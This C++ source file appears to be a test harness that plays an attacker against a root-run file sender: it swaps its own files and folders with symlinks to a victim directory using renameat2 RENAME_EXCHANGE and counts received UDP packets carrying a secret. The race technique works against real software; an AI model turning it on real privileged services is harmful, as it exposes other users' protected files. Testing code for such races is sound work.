// attacker USER EXCHANGES [SECONDS]: owns the working folder, which a sender run by root
// scans, and exchanges its folders and files with links to "../victim" all the time.
// Prints its UDP port first. At the end, of the data packets that came there: how many,
// and how many with a secret; status 1 if it had no time for so many exchanges.
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <random>
#include <string>

namespace {

int exchanged = 0, data = 0, secret = 0;

/// Makes what the sender has taken anew.
void refill() {
  mkdir("d", 0777), mkdir("d/sub", 0777);
  for (const char* folder : {"", "d/", "d/sub/"}) {
    for (char name = '0'; name < '4'; ++name) {
      const std::string path = std::string(folder) + 'f' + name;
      const int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW, 0666);
      if (fd >= 0) (void)!write(fd, "mine", 4), close(fd);
    }
  }
  (void)!symlink("../victim", "to_folder"), (void)!symlink("../victim/f1", "to_file"),
      (void)!symlink("../victim/empty", "to_empty");
}

void exchange(const char* one, const char* other) {
  if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */) == 0)
    ++exchanged;
}

void take_in(int sock) {
  char packet[2000];
  for (ssize_t len; (len = recv(sock, packet, sizeof packet, MSG_DONTWAIT)) > 0;) {
    if (len <= 20 || packet[8] == 0) continue;  // not of a file's content
    ++data;
    if (std::string(packet + 20, packet + len).find("SECRET") != std::string::npos) ++secret;
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  const auto user = static_cast<uid_t>(std::atoi(argv[1]));
  const int sock = socket(AF_INET, SOCK_DGRAM, 0);
  sockaddr_in at{AF_INET, 0, {htonl(INADDR_LOOPBACK)}, {}};
  socklen_t len = sizeof at;
  if (bind(sock, reinterpret_cast<sockaddr*>(&at), len) != 0) return 2;
  if (getsockname(sock, reinterpret_cast<sockaddr*>(&at), &len) != 0) return 2;
  std::printf("%d\n", ntohs(at.sin_port)), std::fflush(stdout);
  if (setgid(user) != 0 || setuid(user) != 0) return 2;
  const int wanted = std::atoi(argv[2]);
  const std::time_t end = std::time(nullptr) + (argc > 3 ? std::atoi(argv[3]) : 120);
  std::mt19937 random(static_cast<unsigned>(getpid()));
  while (exchanged < wanted && std::time(nullptr) < end) {
    refill();
    for (int i = 0; i < 60; ++i) {
      const char* const pairs[][2] = {
          {"d", "to_folder"}, {"f1", "to_file"}, {"d/sub", "to_empty"}, {"f2", "to_file"}};
      exchange(pairs[i % 4][0], pairs[i % 4][1]);
      take_in(sock);
      usleep(static_cast<useconds_t>(random() % 4000));
    }
  }
  usleep(500'000), take_in(sock);
  std::printf("%d %d\n", data, secret);
  return exchanged < wanted ? 1 : 0;
}
